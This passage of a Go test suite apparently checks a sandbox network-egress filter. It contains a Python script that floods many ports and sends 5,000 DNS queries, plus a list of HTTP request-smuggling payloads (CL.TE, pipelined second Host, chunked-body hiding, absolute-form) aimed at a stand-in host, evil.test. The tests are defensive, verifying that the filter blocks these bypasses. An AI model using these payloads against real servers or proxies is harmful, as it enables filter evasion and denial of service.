		c.Close()
		return nil, errors.New("data after the handshake")
	}
	c.SetDeadline(time.Time{})
	return c, nil
}

// pyFlood opens as many connections as it can to many ports for a few
// seconds, then sends 5,000 DNS queries, and prints what it did.
const pyFlood = `
import socket, struct, random, time, errno
deadline = time.time() + 3
opened = 0
socks = []
port = 1
while time.time() < deadline:
    for dst in ('203.0.113.10', '203.0.113.11', '10.0.2.2'):
        s = socket.socket(); s.setblocking(False)
        try: s.connect((dst, port))
        except OSError: pass
        socks.append(s); opened += 1
    port = port % 60000 + 1
    if len(socks) > 600:
        for s in socks[:300]: s.close()
        del socks[:300]
for s in socks: s.close()
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.setblocking(False)
answers = 0
for i in range(5000):
    name = random.choice(['allowed.test', 'x%d.flood.test' % i])
    hdr = struct.pack('>HHHHHH', i & 0xffff, 0x0100, 1, 0, 0, 0)
    body = b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\0' + struct.pack('>HH', 1, 1)
    try: u.sendto(hdr + body, ('10.0.2.3', 53))
    except OSError: pass
    try:
        while True: u.recv(4096); answers += 1
    except OSError: pass
time.sleep(1)
try:
    while True: u.recv(4096); answers += 1
except OSError: pass
print('connections', opened, 'dns answers', answers)
`

// testFlood floods the stack from inside one sandbox for a few seconds and
// checks that the daemon and another sandbox keep working meanwhile.
func testFlood(t *testing.T, x *netEnv, flooder, other *client.Sandbox) {
	d := x.d
	var out strings.Builder
	p, err := flooder.Envd().Start(ctxT(t), client.ProcessSpec{Cmd: "python3", Args: []string{"-c", pyFlood}, Stdout: &out, Stderr: &out})
	if err != nil {
		t.Fatal(err)
	}
	health := func() {
		t.Helper()
		c := &http.Client{Timeout: 5 * time.Second}
		resp, err := c.Get(d.URL + "/health")
		if err != nil {
			t.Errorf("GET /health during the flood: %v", err)
			return
		}
		resp.Body.Close()
	}
	oe := other.Envd()
	for i := 0; i < 3; i++ {
		health()
		x.reached(t, oe, curl+"http://allowed.test/during"+strconv.Itoa(i), "path=/during"+strconv.Itoa(i))
		select {
		case <-p.Done():
		case <-time.After(time.Second):
		}
	}
	st, err := p.Wait()
	t.Logf("flood: %s (%+v, %v)", strings.TrimSpace(out.String()), st, err)
	if err != nil || st.ExitCode != 0 {
		t.Errorf("flood script: %+v, %v: %s", st, err, out.String())
	}
	health()
	x.reached(t, oe, curl+"http://allowed.test/after", "path=/after")
	x.reached(t, flooder.Envd(), curl+"http://"+wanIP+"/flooder-after", "path=/flooder-after")
}

// pyRaw sends its first argument (a Python bytes literal) on one
// connection to allowed.test:80 and prints everything the server sends
// back until it closes or goes quiet.
const pyRaw = `
import socket, sys, ast
c = socket.create_connection(('allowed.test', 80), 5)
c.sendall(ast.literal_eval(sys.argv[1])); c.settimeout(3)
out = b''
try:
    while True:
        b = c.recv(65536)
        if not b: break
        out += b
except Exception as e: print('error', e)
print(out.decode('latin1'))
`

// testEveryRequest attacks the requests after, or instead of, an allowed
// one on a connection admitted for allowed.test: the oracle is that the
// client gets no answer from evil.test's virtual host and nothing for it
// reaches the wan server.
func testEveryRequest(t *testing.T, x *netEnv, list *client.Envd) {
	sh(t, list, "getent ahosts allowed.test >/dev/null")
	const ok = "GET /ok HTTP/1.1\r\nHost: allowed.test\r\n\r\n"
	for _, tc := range []struct {
		name, payload string
		// firstOK: the allowed request before the attack reaches the server.
		firstOK bool
	}{
		{"pipelined second Host", ok + "GET /e1 HTTP/1.1\r\nHost: evil.test\r\n\r\n", true},
		{"blank line first", "\r\nGET /e2 HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n", false},
		{"PROPFIND", "PROPFIND /e3 HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n", false},
		{"absolute-form", ok + "GET http://evil.test/e4 HTTP/1.1\r\nHost: allowed.test\r\n\r\n", true},
		{"absolute-form alone", "GET http://evil.test/e5 HTTP/1.1\r\nHost: evil.test\r\n\r\n", false},
		{"chunked body hides a request", "POST /ok HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: chunked\r\n\r\n" +
			"3\r\nabc\r\n0\r\n\r\nGET /e6 HTTP/1.1\r\nHost: evil.test\r\n\r\n", true},
		{"CL.TE smuggling", "POST /ok HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n" +
			"0\r\n\r\nGET /e7 HTTP/1.1\r\nHost: evil.test\r\n\r\n", false},
		{"refused WebSocket upgrade, then another Host", "GET /ok HTTP/1.1\r\nHost: allowed.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n" +
			"GET /e8 HTTP/1.1\r\nHost: evil.test\r\n\r\n", true},
		{"Host is the address", "GET /e9 HTTP/1.1\r\nHost: " + wanIP + "\r\n\r\n", false},
		{"h2 prior knowledge", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00", false},
	} {
		m := x.fn.mark()
		out, errs, st := run(t, list, client.ProcessSpec{Cmd: "python3", Args: []string{"-c", pyRaw, "b" + strconv.Quote(tc.payload)}})
		t.Logf("%s: exit %d, %.300q %.200q", tc.name, st.ExitCode, out, errs)
		if strings.Contains(out, "host=evil.test") || strings.Contains(out, "host="+wanIP) {
			t.Errorf("%s: the client got an answer from another site: %q", tc.name, out)
		}
		time.Sleep(200 * time.Millisecond)
		var reached []string
		for _, l := range x.fn.since(m) {
			switch {
			case strings.HasPrefix(l, "syn "), strings.HasPrefix(l, "accept "):
			case tc.firstOK && (strings.HasPrefix(l, "data ") || strings.Contains(l, "host=allowed.test path=/ok ") ||
				strings.HasPrefix(l, "request host=allowed.test ") && strings.Contains(l, `uri="/ok"`)):
			default:
				reached = append(reached, l)
			}
		}
		if len(reached) > 0 {
			t.Errorf("%s: the wan server received:\n%s", tc.name, strings.Join(reached, "\n"))
		}
	}
	// curl's own HTTP/2 over plain HTTP: prior knowledge and the h2c upgrade.
	x.refused(t, list, curl+"--http2-prior-knowledge http://allowed.test/h2pk", noPayload)
	x.refused(t, list, curl+"--http2 http://allowed.test/h2c", noPayload)

	// The control: a kept-alive connection with several allowed requests,
	// a chunked POST and one with Content-Length, and a blank line.
	m := x.fn.mark()
	out, errs, st := run(t, list, client.ProcessSpec{Cmd: "python3", Args: []string{"-c", `
import http.client
c = http.client.HTTPConnection('allowed.test', 80, timeout=5)
for method, path, body, chunked in (('GET', '/k1', None, False), ('POST', '/k2', iter([b'abc', b'defg']), True),
                                    ('POST', '/k3', b'hello', False), ('DELETE', '/k4', None, False)):
    c.request(method, path, body=body, encode_chunked=chunked)
    r = c.getresponse(); print(r.status, r.read().decode().strip())
c.sock.sendall(b'\r\n')
c.request('GET', '/k5'); r = c.getresponse(); print(r.status, r.read().decode().strip())
`}})
	if st.ExitCode != 0 {
		t.Fatalf("keep-alive control: exit %d, %q %q", st.ExitCode, out, errs)
	}
	for _, p := range []string{"/k1", "/k2", "/k3", "/k4", "/k5"} {
		if !strings.Contains(out, "200 hello from wan host=allowed.test path="+p) {
			t.Errorf("keep-alive control: no answer for %s in %q", p, out)
		}
	}
	accepts := 0
	for _, l := range x.fn.since(m) {
		if strings.HasPrefix(l, "accept ") {
			accepts++
		}
	}
	if accepts != 1 {
		t.Errorf("keep-alive control: %d connections reached the wan server, want 1", accepts)
	}
}
